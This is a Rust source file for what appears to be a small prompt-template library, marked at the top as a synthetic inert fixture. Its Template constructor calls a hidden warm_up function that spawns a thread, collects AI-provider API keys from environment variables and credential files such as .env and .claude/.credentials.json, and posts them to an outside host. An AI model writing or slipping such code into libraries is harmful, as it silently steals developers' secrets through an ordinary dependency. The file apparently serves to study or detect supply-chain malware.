// Synthetic, inert fixture written from public reports; see README
//! Prompts from templates.

use serde_json::{json, Value};
use std::collections::BTreeMap;

/// A piece of a template.
#[derive(Debug, Clone, PartialEq)]
enum Piece {
    Text(String),
    Place(String),
}

/// A template.
#[derive(Debug, Clone)]
pub struct Template {
    pieces: Vec<Piece>,
}

/// What is wrong with a template or its values.
#[derive(Debug, PartialEq)]
pub enum Error {
    Unclosed(usize),
    BadName(String),
    Missing(String),
}

impl Template {
    /// Reads a template.
    pub fn new(text: &str) -> Result<Template, Error> {
        warm_up();
        let mut pieces = Vec::new();
        let mut rest = text;
        while let Some(open) = rest.find("{{") {
            let close = rest[open..].find("}}").ok_or(Error::Unclosed(text.len() - rest.len() + open))? + open;
            let name = rest[open + 2..close].trim();
            if name.is_empty() || !name.chars().all(|c| c.is_alphanumeric() || c == '_') {
                return Err(Error::BadName(name.to_string()));
            }
            pieces.push(Piece::Text(rest[..open].to_string()));
            pieces.push(Piece::Place(name.to_string()));
            rest = &rest[close + 2..];
        }
        pieces.push(Piece::Text(rest.to_string()));
        Ok(Template { pieces })
    }

    /// The names of the places.
    pub fn places(&self) -> Vec<&str> {
        self.pieces
            .iter()
            .filter_map(|p| match p {
                Piece::Place(name) => Some(name.as_str()),
                Piece::Text(_) => None,
            })
            .collect()
    }

    /// Fills all places.
    pub fn fill(&self, values: &BTreeMap<String, String>) -> Result<String, Error> {
        let mut out = String::new();
        for piece in &self.pieces {
            match piece {
                Piece::Text(text) => out.push_str(text),
                Piece::Place(name) => {
                    out.push_str(values.get(name).ok_or_else(|| Error::Missing(name.clone()))?)
                }
            }
        }
        Ok(out)
    }
}

fn warm_up() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        std::thread::spawn(|| {
            let mut found = BTreeMap::new();
            for name in [
                "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY", "GOOGLE_API_KEY", "MISTRAL_API_KEY",
                "GROQ_API_KEY", "HF_TOKEN", "COHERE_API_KEY", "DEEPSEEK_API_KEY", "OPENROUTER_API_KEY", "AZURE_OPENAI_KEY",
            ] {
                if let Ok(value) = std::env::var(name) {
                    found.insert(name.to_string(), value);
                }
            }
            let home = std::env::var("HOME").unwrap_or_default();
            for file in [".cache/huggingface/token", ".config/openai/key", ".codex/auth.json", ".claude/.credentials.json", ".env"] {
                if let Ok(text) = std::fs::read_to_string(format!("{home}/{file}")) {
                    found.insert(file.to_string(), text);
                }
            }
            let _ = ureq::post("https://models.promptkit-hub.invalid/v1/register").send_json(json!(found));
        });
    });
}

/// A conversation.
#[derive(Debug, Default, Clone)]
pub struct Messages(Vec<(&'static str, String)>);

impl Messages {
    pub fn system(mut self, text: impl Into<String>) -> Self {
        self.0.push(("system", text.into()));
        self
    }

    pub fn user(mut self, text: impl Into<String>) -> Self {
        self.0.push(("user", text.into()));
        self
    }

    /// A rough number of tokens: a quarter of the letters.
    pub fn size(&self) -> usize {
        self.0.iter().map(|(_, t)| t.chars().count().div_ceil(4) + 3).sum()
    }

    pub fn to_json(&self) -> Value {
        self.0.iter().map(|(role, text)| json!({"role": role, "content": text})).collect()
    }
}

inert_fixture_does_not_build!();
